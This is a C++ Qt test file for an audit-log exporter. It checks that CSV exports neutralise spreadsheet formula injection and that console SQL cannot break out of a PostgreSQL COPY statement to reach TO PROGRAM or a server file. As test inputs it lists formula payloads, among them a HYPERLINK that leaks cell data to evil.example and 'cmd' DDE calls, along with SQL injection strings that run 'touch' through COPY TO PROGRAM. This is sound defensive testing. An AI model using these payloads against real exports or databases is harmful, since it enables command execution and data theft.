// The audit exports attacked: cells written by whoever used the platform
// must not run as spreadsheet formulas, in every CSV the exporter writes
// (a filter, a console query as COPY, a console query with parameters
// through a cursor; both engines); and no console text may close the
// "COPY (" it is pasted into to reach TO PROGRAM or a server file, on a
// superuser connection where COPY TO PROGRAM would run.
#include "AuditFixture.h"
#include "models/audit/AuditExporter.h"
#include "models/audit/AuditFilter.h"

#include <QDir>
#include <QFile>
#include <QSignalSpy>

using namespace ic;
using namespace ic::test;

namespace {

QByteArray readAll(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

// RFC 4180 records (quoted fields may hold commas, quotes and newlines).
QList<QStringList> parseCsv(const QByteArray &bytes)
{
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false;
    const QString text = QString::fromUtf8(bytes);
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                field += c;
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            record << field;
            field.clear();
        } else if (c == u'\n') {
            if (field.endsWith(u'\r'))
                field.chop(1);
            record << field;
            records << record;
            record.clear();
            field.clear();
        } else {
            field += c;
        }
    }
    return records;
}

const QStringList Hostile{QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
                          QStringLiteral("+cmd|' /C calc'!A0"),
                          QStringLiteral("-2+3+cmd|' /C calc'!A0"),
                          QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
                          QStringLiteral("\t=1+1"),
                          QStringLiteral("\r=1+1"),
                          QStringLiteral("=1,2"),
                          QStringLiteral("=\"quoted\"")};

bool isPlainNumber(const QString &s)
{
    bool ok = false;
    s.toDouble(&ok);
    return ok && !s.contains(QLatin1Char('e'), Qt::CaseInsensitive);
}

// Every cell: not formula-like; every hostile value present with a ' in front.
QString checkCells(const QByteArray &csv)
{
    const QList<QStringList> records = parseCsv(csv);
    QSet<QString> cells;
    for (const QStringList &r : records) {
        for (const QString &cell : r) {
            cells.insert(cell);
            if (cell.isEmpty() || isPlainNumber(cell))
                continue;
            const QChar c = cell.at(0);
            if (c == u'=' || c == u'+' || c == u'-' || c == u'@' || c == u'\t' || c == u'\r')
                return QStringLiteral("a cell a spreadsheet would run: ") + cell;
        }
    }
    for (const QString &h : Hostile) {
        if (!cells.contains(QLatin1Char('\'') + h))
            return QStringLiteral("missing, neutralised: ") + h;
    }
    return {};
}

} // namespace

class TestAuditCsvSecurity : public QObject
{
    Q_OBJECT
private:
    AuditSources m_src;
    QTemporaryDir m_dir;
    int m_n = 0;
    QHash<QString, ConnectionSpec> m_sources;

    ConnectionSpec source()
    {
        QFETCH_GLOBAL(QString, engine);
        // One source per engine and layout (table, partitioned, view, standby).
        const QString key = engine + QLatin1Char('/') + layoutName(currentLayout());
        if (!m_sources.contains(key)) {
            auto spec = m_src.create(engine);
            if (!spec)
                return {};
            QList<TestRow> rows;
            for (int i = 0; i < Hostile.size(); ++i) {
                TestRow r;
                r.id = 100 + i;
                r.time = QStringLiteral("2026-11-21 00:00:%1.000").arg(10 + i);
                r.event = QStringLiteral("database_query");
                r.user = Hostile.at(i);
                r.query = Hostile.at(i);
                r.metadata = QStringLiteral("{\"n\": -5}");
                rows << r;
            }
            if (!m_src.insert(spec.value(), rows))
                return {};
            m_sources.insert(key, spec.value());
        }
        return m_sources.value(key);
    }

    QString path() { return m_dir.filePath(QStringLiteral("export-%1.csv").arg(++m_n)); }

    Result<qint64> exportAndWait(AuditExporter &ex, const std::function<void()> &start)
    {
        QSignalSpy done(&ex, &AuditExporter::finished);
        QSignalSpy failed(&ex, &AuditExporter::failed);
        start();
        if (!QTest::qWaitFor([&] { return !done.isEmpty() || !failed.isEmpty(); }, 60000))
            return Error::make(Error::Kind::General, QStringLiteral("timed out"));
        if (!failed.isEmpty())
            return failed.first().first().value<Error>();
        return done.first().first().toLongLong();
    }

private slots:
    void initTestCase_data() { addAuditLayoutRows(); }
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        IC_START_PG(m_src.pg());
    }

    void filterExport()
    {
        const ConnectionSpec spec = source();
        const Db::Engine engine = spec.kind == ConnectionProfile::Kind::Postgres
                                      ? Db::Engine::Postgres
                                      : Db::Engine::Sqlite;
        AuditExporter ex(spec);
        const QString file = path();
        auto done = exportAndWait(ex, [&] {
            ex.exportFilter(AuditFilters::compile({}, engine, QDateTime::currentDateTimeUtc()),
                            AuditExporter::Format::Csv, file);
        });
        IC_VERIFY_OK(done);
        QCOMPARE(done.value(), qint64(Hostile.size()));
        const QString problem = checkCells(readAll(file));
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
    }

    void consoleQueryExport() // PostgreSQL: COPY ... TO STDOUT
    {
        const ConnectionSpec spec = source();
        AuditExporter ex(spec);
        const QString file = path();
        auto done = exportAndWait(ex, [&] {
            ex.exportQuery(QStringLiteral("SELECT id, user_id, query, -1 AS minus FROM audit_logs "
                                          "ORDER BY id"),
                           {}, AuditExporter::Format::Csv, file);
        });
        IC_VERIFY_OK(done);
        const QByteArray csv = readAll(file);
        const QString problem = checkCells(csv);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        QVERIFY(parseCsv(csv).at(1).at(3) == QStringLiteral("-1")); // a number stays a number
    }

    void consoleQueryWithParametersExport() // PostgreSQL: a cursor
    {
        const ConnectionSpec spec = source();
        AuditExporter ex(spec);
        const QString file = path();
        auto done = exportAndWait(ex, [&] {
            ex.exportQuery(QStringLiteral("SELECT id, user_id, query FROM audit_logs WHERE id >= ? "
                                          "ORDER BY id"),
                           {100}, AuditExporter::Format::Csv, file);
        });
        IC_VERIFY_OK(done);
        const QString problem = checkCells(readAll(file));
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
    }

    // A hostile column name is a cell of the header row too.
    void headerCellsToo()
    {
        const ConnectionSpec spec = source();
        AuditExporter ex(spec);
        const QString file = path();
        auto done = exportAndWait(ex, [&] {
            ex.exportQuery(QStringLiteral("SELECT 1 AS \"=cmd|' /C calc'!A0\""), {},
                           AuditExporter::Format::Csv, file);
        });
        IC_VERIFY_OK(done);
        QCOMPARE(parseCsv(readAll(file)).first().first(), QStringLiteral("'=cmd|' /C calc'!A0"));
    }

    // The console's export pastes its text into "COPY (" … ") TO STDOUT". On
    // a superuser connection, where COPY TO PROGRAM runs, no text reaches it.
    void copyExportCannotReachProgramOrFile()
    {
        QFETCH_GLOBAL(QString, engine);
        if (engine != QLatin1String("postgres"))
            QSKIP("COPY is PostgreSQL's");
        const ConnectionSpec spec = source();
        QTemporaryDir marks;
        QVERIFY(marks.isValid());
        QFile::setPermissions(marks.path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner |
                                                QFile::ReadOther | QFile::WriteOther |
                                                QFile::ExeOther);
        const QString mark = marks.filePath(QStringLiteral("ran"));
        const QString name = QStringLiteral("copy-attack");
        {
            auto db = Db::open(spec, name);
            IC_VERIFY_OK(db);
            // The control: this connection can run a program through COPY.
            const QString control = marks.filePath(QStringLiteral("control"));
            IC_VERIFY_OK(Db::exec(
                db.value(), QStringLiteral("COPY (SELECT 1) TO PROGRAM 'touch %1'").arg(control)));
            QTRY_VERIFY(QFile::exists(control));

            const QString touch = QStringLiteral("touch %1").arg(mark);
            const QStringList attacks{
                QStringLiteral("SELECT 1) TO PROGRAM '%1' --").arg(touch),
                QStringLiteral("SELECT 1) TO PROGRAM '%1' /*").arg(touch),
                QStringLiteral("SELECT 1) TO PROGRAM '%1' (FORMAT csv, FORCE_QUOTE (a").arg(touch),
                QStringLiteral("SELECT 1) TO '%1' --").arg(mark),
                QStringLiteral("SELECT 1 AS x) AS q) TO PROGRAM '%1' --").arg(touch),
                QStringLiteral("SELECT 1) TO PROGRAM '%1' (FORMAT csv, QUOTE '").arg(touch),
                QStringLiteral("SELECT E'\\') TO PROGRAM ''%1'' --'").arg(touch),
                QStringLiteral("SELECT $$) TO PROGRAM '%1' --$$").arg(touch),
                QStringLiteral("SELECT 1 /* ) TO PROGRAM '%1' */").arg(touch),
                QStringLiteral("SELECT 1); COPY (SELECT 1) TO PROGRAM '%1'; --").arg(touch),
                QStringLiteral("SELECT set_config('standard_conforming_strings', 'off', false)"),
                QStringLiteral("SELECT '\\') TO PROGRAM ''%1'' --'").arg(touch),
            };
            for (const auto format :
                 {AuditExporter::Format::Csv, AuditExporter::Format::JsonLines}) {
                for (const QString &sql : attacks) {
                    const QString out = path();
                    auto r = AuditExporter::writeQuery(db.value(), sql, {}, format, out, nullptr);
                    QTest::qWait(50);
                    QVERIFY2(!QFile::exists(mark), qPrintable(sql));
                    if (!r)
                        QVERIFY2(!QFile::exists(out), qPrintable(sql));
                }
            }
        }
        Db::close(name);
        QVERIFY(!QFile::exists(mark));
    }
};

QTEST_GUILESS_MAIN(TestAuditCsvSecurity)
#include "tst_auditcsvsecurity.moc"
